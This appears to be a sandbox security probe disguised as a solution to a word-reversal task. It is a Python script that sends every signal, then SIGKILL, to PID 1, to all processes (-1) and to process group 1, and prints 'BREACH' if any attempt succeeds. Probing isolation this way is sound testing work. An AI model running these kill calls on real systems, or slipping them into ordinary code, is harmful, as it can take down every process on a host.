import os
import signal

for number in range(1, 65):
    for target in (1, -1):
        if number in (32, 33):
            continue
        try:
            os.kill(target, number)
        except OSError:
            continue
        print("BREACH", target, number)
try:
    signal.pidfd_send_signal(os.pidfd_open(1), signal.SIGKILL)
    print("BREACH by descriptor")
except OSError:
    pass
try:
    os.killpg(1, signal.SIGKILL)
    print("BREACH group")
except OSError:
    pass
print(*reversed(input().split()))
